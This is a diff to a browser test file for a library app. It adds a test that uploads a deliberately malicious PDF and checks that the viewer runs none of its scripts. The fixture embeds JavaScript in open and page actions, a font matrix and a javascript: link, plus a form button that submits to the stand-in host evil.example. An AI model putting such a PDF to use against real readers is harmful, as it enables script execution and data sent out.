@@ -1,6 +1,28 @@
 import { readFile } from 'node:fs/promises'
 import { backend, drop, expect, fixture, test } from './fixtures.ts'
 
+const SCRIPT = 'globalThis.stolen = 1; app.alert("stolen"); app.launchURL("https://evil.example/")'
+
+/** Runs a script when it is opened, closed, or its page is seen; has a link that is a script, a button that sends the form
+ *  away, and a font whose measures are a script. Without a table of objects: readers find them all the same. */
+const ARMED_PDF = `%PDF-1.7
+1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA <</WC 6 0 R>> /Names <</JavaScript <</Names [(a) 6 0 R]>>>>
+  /AcroForm <</Fields [8 0 R]>>>> endobj
+2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
+3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] /Contents 4 0 R /AA <</O 6 0 R>> /Annots [7 0 R 8 0 R]
+  /Resources <</Font <</F1 5 0 R>>>>>> endobj
+4 0 obj <</Length 58>> stream
+BT /F1 18 Tf 40 340 Td (The lamp is lit at dusk.) Tj ET   
+endstream endobj
+5 0 obj <</Type /Font /Subtype /Type1 /BaseFont /Helvetica
+  /FontMatrix [1 2 3 4 5 (0\\); globalThis.stolen = 1; //)]>> endobj
+6 0 obj <</S /JavaScript /JS (${SCRIPT})>> endobj
+7 0 obj <</Type /Annot /Subtype /Link /Rect [0 200 400 330] /A <</S /URI /URI (javascript:globalThis.stolen=1)>>>> endobj
+8 0 obj <</Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 400 190]
+  /A <</S /SubmitForm /F (https://evil.example/)>> /AA <</E 6 0 R /D 6 0 R>>>> endobj
+trailer <</Root 1 0 R>>
+%%EOF`
+
 test('files that cannot be taken are refused before they travel, each with what to do', async ({ page, library }) => {
   const sent: string[] = []
   page.on('request', (request) => {
@@ -55,11 +77,36 @@ test('the same file is recognised before it travels again', async ({ page, libra
 test('a stopped backend is said, and once it is back the screen goes on', async ({ page, library }) => {
   await page.getByRole('heading', { name: 'An empty shelf' }).waitFor()
   await page.route(`${backend.url}/**`, (route) => route.abort('connectionrefused'))
-  await page.goto(`/l/${library}/members`)
+  // Of what the shelf has asked for, members among it, a kept copy might be shown; nobody has asked for these figures yet.
+  await page.goto(`/l/${library}/insights`)
   await expect(page.getByRole('heading', { name: 'The library does not answer' })).toBeVisible()
   await page.unroute(`${backend.url}/**`)
   await page.getByRole('button', { name: 'Try again' }).click()
-  await expect(page.getByRole('heading', { name: 'Members' })).toBeVisible()
+  await expect(page.getByRole('heading', { name: 'Insights' })).toBeVisible()
+})
+
+test('a PDF is read without running what is in it', async ({ page, library }) => {
+  expect(library).toBeTruthy()
+  const foreign: string[] = []
+  page.on('request', (request) => request.url().includes('evil.example') && foreign.push(request.url()))
+  page.on('dialog', (dialog) => foreign.push(dialog.message()))
+  await page
+    .getByLabel('Files to add')
+    .setInputFiles({ name: 'armed.pdf', mimeType: 'application/pdf', buffer: Buffer.from(ARMED_PDF, 'latin1') })
+  await page.getByRole('article', { name: 'Armed' }).getByRole('link').first().click()
+  const sheet = page.locator('[data-page="1"]')
+  await expect(sheet.getByText('The lamp is lit at dusk.')).toBeVisible()
+  // Where its link and its button lie.
+  for (const position of [
+    { x: 100, y: 120 },
+    { x: 100, y: 240 },
+  ]) {
+    await sheet.click({ position })
+  }
+  await expect(sheet.locator('a, button, input, iframe')).toHaveCount(0)
+  await expect(page).toHaveURL(/\/l\/[^/]+\/d\/[^/]+/)
+  expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false)
+  expect(foreign).toEqual([])
 })
 
 test('a document that is not there, and a page that never was', async ({ page, library }) => {
